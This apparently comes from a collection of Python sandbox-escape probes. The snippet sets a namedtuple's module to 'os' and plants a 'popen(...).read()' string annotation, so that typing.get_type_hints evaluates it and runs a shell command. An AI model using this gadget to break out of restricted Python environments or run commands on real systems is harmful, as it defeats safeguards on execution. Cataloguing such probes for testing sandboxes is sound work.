# tries: a named tuple that says where it is from
# class: library
# bare: gate
import collections, typing
N = collections.namedtuple("N", "a", module="os")
N.__annotations__ = {"x": "popen(%r).read()" % SHOW}
try:
    print(typing.get_type_hints(N))
except Exception as e:
    print(e)
